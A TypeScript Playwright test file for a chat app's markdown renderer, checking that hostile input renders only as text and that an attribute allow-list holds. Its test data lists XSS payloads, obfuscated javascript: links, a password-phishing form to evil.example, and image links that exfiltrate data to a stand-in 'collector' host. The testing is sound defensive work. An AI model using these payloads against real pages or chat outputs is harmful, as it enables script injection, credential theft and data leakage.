import { execFileSync } from "node:child_process"
import { join } from "node:path"
import { expect, test } from "@playwright/test"

const hostile = [
  "<script>window.__x = 1</script>",
  "text <script>window.__x = 1</script> text",
  '<img src=x onerror="window.__x = 1">',
  "<svg onload=window.__x=1><animate onbegin=alert(1)>",
  '<iframe srcdoc="<script>parent.__x = 1</script>"></iframe>',
  "[a](javascript:window.__x=1)",
  "[a](&#106;avascript:window.__x=1)",
  "[a](java&#10;script:window.__x=1)",
  "[a](<java\tscript:window.__x=1>)",
  "[a](\u0001javascript:window.__x=1)",
  "[a](JAVASCRIPT&colon;window.__x=1)",
  "<javascript:window.__x=1>",
  "[a](vbscript:msgbox)",
  "[a](data:text/html,<script>window.__x=1</script>)",
  "[a](/api/conversations)",
  "![a](javascript:window.__x=1)",
  "![a](/api/files/1)",
  "![a](http://collector/?d=secret)",
  "![a][r]\n\n[r]: http://collector/?d=secret",
  "[![a](http://collector/?d=secret)](https://example.com)",
  '![a" onerror="window.__x=1](https://example.com/x.png)',
  '[a](https://example.com/"onmouseover="window.__x=1)',
  '<form action="https://evil.example"><input name=password><button>Go</button></form>',
  '<div style="position:fixed;inset:0">cover</div>',
  '<div id="root" class="md-code">x</div>',
  "<base href=https://evil.example>",
  '<link rel=stylesheet href="https://evil.example/x.css">',
  "<meta http-equiv=refresh content=0;url=https://evil.example>",
  "<details open ontoggle=window.__x=1><summary>s</summary></details>",
  "```html\n<script>window.__x=1</script>\n```",
  '```"><script>window.__x=1</script>\nx\n```',
  "`<img src=x onerror=window.__x=1>`",
  "$\\href{javascript:window.__x=1}{x}$ $\\includegraphics{http://collector/x.png}$",
  "$$\n\\htmlStyle{position:fixed}{x}<img src=x onerror=window.__x=1>\n$$",
  "| <img src=x onerror=window.__x=1> |\n|---|\n| <svg/onload=window.__x=1> |",
  "- [ ] <input autofocus onfocus=window.__x=1>",
  "# <h1 onclick=window.__x=1>x",
  "&lt;script&gt;window.__x=1&lt;/script&gt;",
  "&#60;img src=x onerror=window.__x=1&#62;",
  "[__proto__]: https://example.com\n\n[__proto__] [constructor] [toString]",
  `${"> ".repeat(500)}<script>window.__x=1</script>`,
  `${"- ".repeat(500)}deep`,
  "**a**".repeat(16_000),
]

const attributes: Record<string, string[]> = {
  a: ["href", "title", "target", "rel"],
  button: ["type", "aria-label", "aria-pressed", "title"],
  code: ["dir"],
  div: ["class", "data-streaming"],
  figcaption: ["class"],
  figure: ["class", "aria-label"],
  img: ["class", "src", "alt"],
  input: ["type", "disabled", "readonly", "checked", "aria-label"],
  pre: ["dir", "tabindex"],
  section: ["class", "aria-label", "tabindex"],
  span: ["class", "dir", "role", "hidden"],
  table: ["dir"],
  td: ["data-align"],
  th: ["data-align"],
  ol: ["dir", "start"],
  li: ["class"],
  p: ["class", "dir"],
  ...{ br: [], del: [], em: [], hr: [], strong: [], tbody: [], thead: [], tr: [] },
  ...{ ul: ["dir"], blockquote: ["dir"], h2: ["dir"], h3: ["dir"], h4: ["dir"] },
  ...{ h5: ["dir"], h6: ["dir"] },
}
// The icons are drawn by our own code.
const icon = /<svg [^>]*class="lucide[^"]*"[^>]*>.*?<\/svg>/gs

for (const streaming of [false, true]) {
  const name = streaming ? "while it streams" : "when it is finished"
  test(`a hostile text is only text, ${name}`, () => {
    const pages = render(hostile, streaming)
    expect(pages).toHaveLength(hostile.length)
    pages.forEach((html, index) => {
      expect(foreignMarkup(html), hostile[index]?.slice(0, 80)).toEqual([])
    })
  })
}

test("what was written is still there to read", () => {
  const [script, form, details, comment, lineBreak, entity] = render([
    "<script>one()</script>",
    "a <form> tag",
    "<details>\n<summary>More</summary>\n\n**inside**\n\n</details>",
    "a <!-- secret --> b\n\n<!-- more -->",
    "a<br>b",
    "Q&amp;A &copy; &#8364; &unknown;",
  ])
  expect(script).toContain("&lt;script&gt;one()&lt;/script&gt;")
  expect(form).toContain("a &lt;form&gt; tag")
  expect(details).toContain("&lt;summary&gt;More&lt;/summary&gt;")
  expect(details).toContain("<strong>inside</strong>")
  expect(comment).toContain('<p dir="auto">a  b</p>')
  expect(comment).not.toContain("more")
  expect(lineBreak).toContain("a<br/>b")
  expect(entity).toContain("Q&amp;A © € &amp;unknown;")
})

test("links leave the page without telling where from; images wait for a click", () => {
  const [link, image, embedded, linked] = render([
    "[docs](https://example.com/a)",
    "![a cat](https://example.com/cat.png)",
    "![dot](data:image/png;base64,iVBORw0KGgo=)",
    "[![a cat](https://example.com/cat.png)](https://example.com)",
  ])
  expect(link).toContain(
    '<a href="https://example.com/a" title="example.com" target="_blank" rel="noopener noreferrer nofollow">docs</a>',
  )
  expect(image).not.toContain("<img")
  expect(image).toContain("a cat")
  expect(image).toContain("Show image")
  expect(embedded).toContain('<img class="md-image" src="data:image/png;base64,iVBORw0KGgo="')
  expect(linked).not.toMatch(/<img|<button/)
})

test("tables, tasks, formulas and code", () => {
  const [table, tasks, formula, code] = render([
    "| a | b |\n|:-:|--:|\n| 1 | ~~2~~ |",
    "- [x] done\n- [ ] open",
    "so $x^2$",
    "```ts\nconst a = 1\n```",
  ])
  expect(table).toContain('<th data-align="center">a</th><th data-align="right">b</th>')
  expect(table).toContain("<del>2</del>")
  expect(tasks).toMatch(/<input (?=[^>]*checked)(?=[^>]*disabled)[^>]*>/)
  expect(formula).toContain('<span class="md-math-source">$x^2$</span>')
  expect(code).toContain('aria-label="Copy code"')
  expect(code).toContain("const a = 1")
})

function foreignMarkup(html: string): string[] {
  const tags = html
    .replace(icon, "")
    .matchAll(/<(\/?)([^\s/>]+)((?:\s+[^\s=>]+(?:="[^"]*")?)*)\s*\/?>/g)
  return [...tags].flatMap(({ 0: whole, 2: tag = "", 3: rest = "" }) => {
    const allowed = attributes[tag]
    const names = [...rest.matchAll(/\s([^\s=]+)(?:="([^"]*)")?/g)]
    const isForeign = names.some(([, name = "", value = ""]) => {
      if (name === "href") return !/^(?:https?|mailto):/.test(value)
      if (name === "src") return !value.startsWith("data:image/png;base64,")
      return !allowed?.includes(name.toLowerCase())
    })
    return allowed && !isForeign ? [] : [whole]
  })
}

/**
 * Renders texts as the server would. These tests run under the `react-server` condition, where
 * React has neither state nor `react-dom/server`, so the rendering is done in a process without it.
 */
function render(texts: string[], streaming = false): string[] {
  const script = `
    import { createElement } from "react"
    import { renderToStaticMarkup } from "react-dom/server"
    import { MarkdownView } from ${JSON.stringify(join(import.meta.dirname, "markdown-view.tsx"))}
    import { readFileSync } from "node:fs"
    const { texts, streaming } = JSON.parse(readFileSync(0, "utf8"))
    const pages = texts.map((text) =>
      renderToStaticMarkup(createElement(MarkdownView, { text, streaming })))
    process.stdout.write(JSON.stringify(pages))
  `
  const output = execFileSync(
    process.execPath,
    ["--import", "tsx", "--input-type=module", "--eval", script],
    {
      env: { ...process.env, NODE_OPTIONS: "" },
      input: JSON.stringify({ texts, streaming }),
      encoding: "utf8",
      maxBuffer: 50_000_000,
    },
  )
  const pages: unknown = JSON.parse(output)
  if (!Array.isArray(pages))
    throw new Error("The renderer answered with something else than pages.")
  return pages.map(String)
}
